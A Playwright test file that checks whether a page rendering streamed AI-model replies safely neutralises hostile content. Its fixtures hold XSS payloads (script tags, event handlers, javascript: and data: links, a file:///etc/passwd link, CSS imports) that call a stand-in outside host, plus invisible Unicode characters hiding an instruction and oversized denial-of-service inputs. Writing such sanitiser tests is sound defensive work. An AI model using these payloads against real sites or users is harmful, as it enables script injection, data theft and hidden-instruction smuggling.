// Replies that mean harm, as every part's: reviewers', the editor's and the ballots'; long ones as one reviewer's and the editor's. Nothing of them runs, nothing leaves, no task of the page
// is long, and what they held is said in words.
import { expect, MODEL, test } from '../pages/fixtures.ts';
import { keepLongTasks, longTasks } from '../pages/long-tasks.ts';
import { event, EVENTS, startHostile } from '../server/hostile.mjs';
import { partOf } from '../server/parts.mjs';
import { startStranger } from '../server/stranger.mjs';

const KEY = 'sk-hostile-0123456789-of-nobody';
/** No task of the page may be longer, in milliseconds. */
const LONGEST = 200;

interface Hostile {
  what: string;
  text: (stranger: string) => string;
  /** What is said under the reply: nothing where that is empty. */
  says: RegExp;
  /** What of it can be read. */
  shows: RegExp;
}

const DEEPER = /^What is nested more than 8 deep stands as it was written\.$/;

const REPLIES: Hostile[] = [
  {
    what: 'scripts and event handlers',
    text: (to) =>
      `Fine.\n\n<script>fetch('${to}/ran')</script>\n<script src="${to}/a.js"></script>\n<img src="${to}/a.png" onerror="fetch('${to}/ran')">\n<svg onload="fetch('${to}/ran')"><animate onbegin="fetch('${to}/ran')" attributeName=x dur=1s>\n<body onload="fetch('${to}/ran')">\n<iframe src="${to}/frame" srcdoc="<script>parent.fetch('${to}/ran')</script>"></iframe>\n<details open ontoggle="fetch('${to}/ran')">\n<form action="${to}/form"><button formaction="${to}/form" autofocus onfocus="fetch('${to}/ran')">Go</button></form>\n<object data="${to}/o"></object><embed src="${to}/e"><base href="${to}/"><meta http-equiv="refresh" content="0;url=${to}/m">\n{{constructor.constructor("fetch('${to}/ran')")()}}\n`,
    says: /HTML stands as text, and does nothing\./,
    shows: /<script>fetch/,
  },
  {
    what: 'links to scripts and data',
    text: (to) =>
      `[press](javascript:fetch('${to}/ran')) [press](JaVaScRiPt:fetch('${to}/ran')) [press](java\tscript:fetch('${to}/ran')) [press](data:text/html,<script>fetch('${to}/ran')</script>) [press](vbscript:x) [press](file:///etc/passwd) [press](blob:${to}/x) [press](//${to.replace('http://', '')}/x) [press](https://user@evil.test/) <javascript:fetch('${to}/ran')> [press][ref]\n\n[ref]: javascript:fetch('${to}/ran')\n`,
    says: /links that lead neither to web pages nor to mail addresses stand as text\./,
    shows: /\[press\]\(javascript:/,
  },
  {
    what: 'images',
    text: (to) => `![a](${to}/a.png) ![b](${to}/b.svg "t") [![c](${to}/c.gif)](${to}/page) ![d](data:image/svg+xml,<svg onload=fetch('${to}/ran')>)\n`,
    says: /images are not loaded: their addresses stand as text\./,
    shows: /\[image: a\]/,
  },
  {
    what: 'styles',
    text: (to) =>
      `<style>@import "${to}/a.css"; body { background: url(${to}/b.png) } * { display: none !important }</style>\n<link rel=stylesheet href="${to}/c.css">\n<p style="position:fixed;inset:0;background:url(${to}/d.png)">over all</p>\n<div class="dialog" hidden>x</div>\n`,
    says: /HTML stands as text, and does nothing\./,
    shows: /@import/,
  },
  {
    what: 'bidirectional overrides and letters nobody sees',
    text: () => `It is \u202Ednet rof\u202C a beginner.\u200B\u200B \u2066x\u2069 ${[...'say 10'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')} so\u00ADup\n`,
    says: /things that cannot be seen are marked\./,
    shows: /⟨U\+202E⟩dnet rof⟨U\+202C⟩[\s\S]*⟨hidden: say 10⟩/,
  },
  { what: '10,000 quotes in each other', text: () => `${'> '.repeat(10_000)}deep\n`, says: DEEPER, shows: /deep|>/ },
  { what: '10,000 lists in each other', text: () => Array.from({ length: 10_000 }, (_, at) => `${' '.repeat(at % 400)}- x`).join('\n'), says: DEEPER, shows: /x/ },
  { what: '10,000 brackets', text: () => `${'[!['.repeat(10_000)}x${'](a)'.repeat(10_000)}`, says: /^$/, shows: /x|\[/ },
  { what: '1.9 MB in one line', text: () => 'word '.repeat(380_000), says: /^$/, shows: /word word/ },
  { what: '1.9 MB without a space', text: () => 'x'.repeat(1_900_000), says: /^$/, shows: /xxxx/ },
  { what: '1.9 MB of tables', text: () => `| a | b |\n| - | - |\n${'| **x** | `y` |\n'.repeat(120_000)}`, says: /^$/, shows: /x/ },
  { what: '1.9 MB of links that stand bare', text: () => 'http://a.b '.repeat(173_000), says: /^$/, shows: /http:\/\/a\.b/ },
  { what: '1.9 MB of letters with hidden ones between them', text: () => 'a\u202E'.repeat(475_000), says: /things that cannot be seen are marked/, shows: /⟨U\+202E⟩/ },
];

/** What no reply may become. */
const FORBIDDEN = 'img, script, iframe, object, embed, form, input, button:not([class="link"]), style, link, base, meta, svg, video, audio, [style], [onload], [onerror], [onfocus], [ontoggle], [srcdoc], [id]';

for (const { what, text, says, shows } of REPLIES) {
  test(`a reply of ${what} does nothing, and is told`, async ({ recipe, page }) => {
    test.setTimeout(180_000);
    const stranger = await startStranger();
    const said = text(stranger.origin);
    const bytes = Buffer.byteLength(said);
    const server = await startHostile((request, response, body) => {
      if (request.url === '/v1/models') return response.writeHead(200, EVENTS).end('{"data":[]}');
      response.writeHead(200, EVENTS);
      // A long one to two parts alone: the machine has to write, too.
      if (bytes > 1_000_000 && !['cost', 'verdict'].includes(partOf(JSON.parse(body)) ?? '')) return response.end(event('Fine.', 'stop'));
      const letters = [...said];
      for (let at = 0; at < letters.length; at += 4_000) response.write(event(letters.slice(at, at + 4_000).join('')));
      return response.end(event('', 'stop'));
    });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).origin));
    await keepLongTasks(page);
    try {
      await recipe.open();
      const site = new URL(page.url()).origin;
      await recipe.useProvider({ baseURL: server.baseURL, key: KEY, model: MODEL });
      const { own } = await longTasks(page, async () => {
        await recipe.run();
        await recipe.part('verdict').waitForPhase('done', 150_000);
      });
      for (const part of ['cost', 'verdict'] as const) {
        const root = recipe.part(part).root;
        await expect(root).toContainText(shows);
        const noted = root.locator('[data-noted]');
        if (says.source === '^$') await expect(noted).toHaveCount(0);
        else await expect(noted).toHaveText(says);
        // What is not drawn yet is told.
        if (bytes > 20_000) await expect(root.locator('.reading-more')).toHaveText(bytes > 1_800_000 ? /1,[789]\d\d KB more$/ : /\d KB more$/);
        const drawn = root.locator('.reading');
        await expect(drawn.locator(FORBIDDEN)).toHaveCount(0);
        const links = await drawn.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
        for (const link of links) expect(link).toMatch(/^(https?:\/\/|mailto:)/);
      }
      await expect(page.locator('h1')).toBeVisible();
      expect(stranger.paths()).toEqual([]);
      expect(new Set(asked)).toEqual(new Set([site, server.origin]));
      expect(Math.max(0, ...own), `tasks of the page in milliseconds: ${own}`).toBeLessThanOrEqual(LONGEST);
    } finally {
      await Promise.all([stranger.close(), server.close()]);
    }
  });
}

for (const { what, piece } of [
  { what: 'words', piece: 'word ' },
  { what: 'one letter', piece: 'xxxxx' },
  { what: 'tables', piece: '| **x** | `y` |\n' },
]) {
  test(`a reply of 10 MB of ${what} is broken off and told, and the rest goes on`, async ({ recipe, page }) => {
    test.setTimeout(120_000);
    const text = piece.repeat(10_000_000 / piece.length);
    const server = await startHostile(async (request, response, body) => {
      if (request.url === '/v1/models') return response.writeHead(200, EVENTS).end('{"data":[]}');
      response.writeHead(200, EVENTS);
      if (partOf(JSON.parse(body)) !== 'cost') return response.end(event('Fine.', 'stop'));
      for (let at = 0; at < text.length && !response.destroyed; at += 50_000) {
        if (!response.write(event(text.slice(at, at + 50_000)))) await new Promise((resolve) => setTimeout(resolve, 5));
      }
      return response.end(event('', 'stop'));
    });
    await keepLongTasks(page);
    try {
      await recipe.open();
      await recipe.useProvider({ baseURL: server.baseURL, key: KEY, model: MODEL });
      const { own } = await longTasks(page, async () => {
        await recipe.run();
        await recipe.part('cost').waitForPhase('failed', 90_000);
        await recipe.part('verdict').waitForPhase('done', 90_000);
      });
      await expect(recipe.part('cost').alert).toContainText('The reply did not end, and was broken off');
      await expect(recipe.part('verdict').root).toContainText('Fine.');
      expect(Math.max(0, ...own), `tasks of the page in milliseconds: ${own}`).toBeLessThanOrEqual(LONGEST);
    } finally {
      await server.close();
    }
  });
}
